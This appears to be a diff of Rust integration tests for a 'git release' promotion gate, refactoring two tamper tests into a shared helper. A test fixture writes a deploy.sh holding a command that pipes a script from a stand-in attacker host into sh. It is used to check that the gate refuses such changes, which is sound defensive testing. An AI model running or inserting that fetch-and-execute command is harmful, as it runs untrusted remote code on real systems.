@@ -692,20 +692,27 @@ fn a_rebuilt_branch_that_carries_more_than_the_release_file_is_refused() {
     world.git(release, &["fetch", "-q", "origin"]);
     world.release(release, &["gate", "--target", "prod", "--source", "promote/prod"]).expect_status(0);
 
+    tamper_with_rebuilt(&world, &repos, |elsewhere| {
+        std::fs::write(elsewhere.join("deploy.sh"), "#!/bin/sh\ncurl -s https://attacker.example/x | sh\n")
+            .expect("writes");
+    })
+    .expect_status(1)
+    .expect_stdout("FAIL  promotion-path")
+    .expect_stdout("promote/prod changes deploy.sh beside release.toml")
+    .expect_stdout("hint: rebuild it: git release promote qa prod --rebuild");
+}
+
+/// Someone who may push promote/prod changes it in a clone of their own (`change` edits its work
+/// tree) and pushes it, titled as git-release titles it; the gate is then asked about it.
+fn tamper_with_rebuilt(world: &World, repos: &TwoRepos, change: impl Fn(&Path)) -> crate::harness::Transcript {
     let elsewhere = world.path("elsewhere");
     world.git(&world.path(""), &["clone", "-q", "-b", "promote/prod", path(&repos.release_remote), path(&elsewhere)]);
-    std::fs::write(elsewhere.join("deploy.sh"), "#!/bin/sh\ncurl -s https://attacker.example/x | sh\n")
-        .expect("writes");
-    world.git(&elsewhere, &["add", "deploy.sh"]);
+    change(&elsewhere);
+    world.git(&elsewhere, &["add", "-A"]);
     world.git(&elsewhere, &["commit", "-q", "-m", "Promote qa → prod: 1.0.0 (v1.0.0-rc.1)"]);
     world.git(&elsewhere, &["push", "-q", "origin", "promote/prod"]);
-    world.git(release, &["fetch", "-q", "origin"]);
-    world
-        .release(release, &["gate", "--target", "prod", "--source", "promote/prod"])
-        .expect_status(1)
-        .expect_stdout("FAIL  promotion-path")
-        .expect_stdout("promote/prod changes deploy.sh beside release.toml")
-        .expect_stdout("hint: rebuild it: git release promote qa prod --rebuild");
+    world.git(&repos.release, &["fetch", "-q", "origin"]);
+    world.release(&repos.release, &["gate", "--target", "prod", "--source", "promote/prod"])
 }
 
 /// Found by a later independent pass: promote/prod holding a release file of someone's own (a
@@ -718,20 +725,14 @@ fn a_rebuilt_branch_with_a_release_file_other_than_the_sources_is_refused() {
     let release = &repos.release;
     edit_prod_by_hand(&world, release);
     world.release_with(release, &["promote", "qa", "prod", "--rebuild"], &[("GITHUB_TOKEN", TOKEN)]).expect_status(0);
-
-    let elsewhere = world.path("elsewhere");
-    world.git(&world.path(""), &["clone", "-q", "-b", "promote/prod", path(&repos.release_remote), path(&elsewhere)]);
-    let file = std::fs::read_to_string(elsewhere.join("release.toml")).expect("the release file");
-    std::fs::write(elsewhere.join("release.toml"), file + "# one more line\n").expect("writes");
-    world.git(&elsewhere, &["commit", "-q", "-am", "Promote qa → prod: 1.0.0 (v1.0.0-rc.1)"]);
-    world.git(&elsewhere, &["push", "-q", "origin", "promote/prod"]);
-    world.git(release, &["fetch", "-q", "origin"]);
-    world
-        .release(release, &["gate", "--target", "prod", "--source", "promote/prod"])
-        .expect_status(1)
-        .expect_stdout("FAIL  promotion-path")
-        .expect_stdout("promote/prod's release.toml is not the one environment/qa holds")
-        .expect_stdout("hint: rebuild it: git release promote qa prod --rebuild");
+    tamper_with_rebuilt(&world, &repos, |elsewhere| {
+        let file = std::fs::read_to_string(elsewhere.join("release.toml")).expect("the release file");
+        std::fs::write(elsewhere.join("release.toml"), file + "# one more line\n").expect("writes");
+    })
+    .expect_status(1)
+    .expect_stdout("FAIL  promotion-path")
+    .expect_stdout("promote/prod's release.toml is not the one environment/qa holds")
+    .expect_stdout("hint: rebuild it: git release promote qa prod --rebuild");
 }
 
 /// Found by the same pass: with the local qa branch left behind after someone else pushed it,
